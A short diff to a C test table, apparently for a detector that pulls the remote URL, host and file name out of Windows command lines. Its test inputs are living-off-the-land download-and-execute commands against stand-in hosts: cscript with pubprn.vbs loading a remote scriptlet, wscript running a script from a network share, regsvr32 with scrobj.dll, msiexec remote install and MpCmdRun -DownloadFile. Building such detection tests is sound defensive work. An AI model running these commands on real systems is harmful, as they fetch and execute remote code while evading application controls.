@@ -64,6 +64,10 @@ static const struct {
 	  false },
 	{ "msiexec /q /i http://a.example/b.msi", "http://a.example/b.msi", "a.example", "b.msi",
 	  false },
+	{ "cscript.exe /b C:\\Windows\\System32\\en-US\\pubprn.vbs 127.0.0.1 "
+	  "script:https://a.example/f.sct",
+	  "https://a.example/f.sct", "a.example", "f.sct", false },
+	{ "wscript \\\\10.0.0.9\\s\\x.vbs", "\\\\10.0.0.9\\s\\x.vbs", "10.0.0.9", "x.vbs", false },
 	{ "regsvr32 /s /n /u /i:http://a.example/f.sct scrobj.dll", "http://a.example/f.sct",
 	  "a.example", "f.sct", false },
 	{ "MpCmdRun.exe -DownloadFile -url http://a.example/a.exe -path c:\\temp\\a.exe",
